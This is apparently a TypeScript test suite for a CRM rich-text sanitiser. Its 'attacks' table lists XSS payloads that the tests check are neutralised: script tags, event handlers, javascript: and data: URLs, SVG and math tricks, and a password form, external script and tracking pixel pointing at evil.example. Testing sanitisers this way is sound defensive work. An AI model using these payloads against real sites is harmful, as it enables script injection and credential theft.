/** HTML from the CRM: what is kept, and what attackers would like to be kept (A23). */
import { expect } from 'chai'
import { load } from 'cheerio'
import { plainText, safeHtml } from '../../src/web/rich-text.js'

describe('HTML of a record', () => {
  it('keeps words, lists, headings, tables and links', () => {
    const html =
      '<p>Dear <b>Anna</b>,<br>please see:</p><ul><li>one</li></ul><ol><li>two</li></ol>' +
      '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
    expect(safeHtml(html).replaceAll('<br />', '<br>')).to.equal(html)
  })

  it('puts its headings below those of the page', () => {
    expect(safeHtml('<h1>a</h1><h2>b</h2><h3>c</h3><h6>d</h6>')).to.equal('<h3>a</h3><h4>b</h4><h5>c</h5><h6>d</h6>')
  })

  it('links to the web and to mail only, and tells nobody where the reader came from', () => {
    const rel = 'rel="noopener noreferrer nofollow"'
    expect(safeHtml('<a href="https://x.example/a?b=1" target="_blank" onclick="go()">x</a>')).to.equal(
      `<a href="https://x.example/a?b=1" ${rel}>x</a>`
    )
    expect(safeHtml('<a href="mailto:a@x.example">x</a>')).to.equal(`<a href="mailto:a@x.example" ${rel}>x</a>`)
    for (const href of ['/portal/sign-out', '?entryPoint=download&id=1', '#Case/view/1', '//evil.example', 'tel:1', ''])
      expect(safeHtml(`<a href="${href}">x</a>`), href).to.equal('<a>x</a>')
  })

  const attacks: Readonly<Record<string, string>> = {
    script: '<script>alert(1)</script>',
    'a script in capitals': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
    'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
    'an unclosed script': '<script>alert(1)',
    onerror: '<img src=x onerror=alert(1)>',
    'an event on what is allowed': '<p onmouseover="alert(1)" onclick=alert(1)>x</p>',
    'javascript:': '<a href="javascript:alert(1)">x</a>',
    'javascript: with a tab in it': '<a href="java\tscript:alert(1)">x</a>',
    'javascript: in entities': '<a href="&#106;avascript&colon;alert(1)">x</a>',
    'javascript: behind a control character': '<a href="\u0001javascript:alert(1)">x</a>',
    'data:': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    'vbscript:': '<a href="vbscript:msgbox(1)">x</a>',
    svg: '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    math: '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
    'a picture': '<img src="https://evil.example/pixel.gif">',
    style: '<p style="background:url(https://evil.example/pixel.gif);position:fixed">x</p>',
    'a stylesheet': '<style>body{display:none}@import url(https://evil.example)</style>',
    'a class of ours': '<p class="notice notice--bad" id="notes">x</p>',
    iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    object: '<object data="https://evil.example"><embed src="https://evil.example"></object>',
    'a form': '<form action="https://evil.example"><input name="password"><button>x</button></form>',
    base: '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    'a comment': '<!--[if IE]><script>alert(1)</script><![endif]-->',
    'a noscript that ends in a title': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    'a template': '<template><script>alert(1)</script></template>',
    'markup as text': '&lt;script&gt;alert(1)&lt;/script&gt;'
  }
  for (const [what, html] of Object.entries(attacks)) {
    it(`A23 is harmless: ${what}`, () => {
      const $ = load(`<main>${safeHtml(html)}</main>`, null, false)
      const names = new Set(
        $('main *')
          .map((_, element) => element.tagName)
          .get()
      )
      expect([...names].filter((name) => !['p', 'a'].includes(name))).to.deep.equal([])
      $('main *').each((_, element) => void expect(Object.keys(element.attribs)).to.deep.equal([]))
      expect(plainText(html, 200)).not.to.match(/evil|onerror/)
    })
  }

  it('stays within its place when tags are not closed, or closed too often', () => {
    for (const html of ['<ul><li><b>x', '</main></div></body></html>x', '<table><tr><td>x', '<p <b>x', '<a href="']) {
      const $ = load(`<main>${safeHtml(html)}</main><footer></footer>`, null, false)
      expect($('main footer'), html).to.have.length(0)
      expect($('body, html')).to.have.length(0)
    }
  })

  it('is one line of words in lists, cut where it is long', () => {
    expect(plainText('<p>Pay&nbsp;<b>soon</b></p><p>or &lt;never&gt; &amp; so</p><style>x</style>', 80)).to.equal(
      'Pay soon or <never> & so'
    )
    expect(plainText(`<p>${'word '.repeat(100)}</p>`, 20)).to.equal('word word word word…')
    expect(plainText('', 20)).to.equal('')
  })

  it('is read in good time, however deep or long it is', () => {
    const begun = Date.now()
    safeHtml('<b>'.repeat(100_000))
    safeHtml('x'.repeat(5_000_000))
    plainText('<p>'.repeat(100_000), 100)
    expect(Date.now() - begun).to.be.lessThan(5000)
  })
})
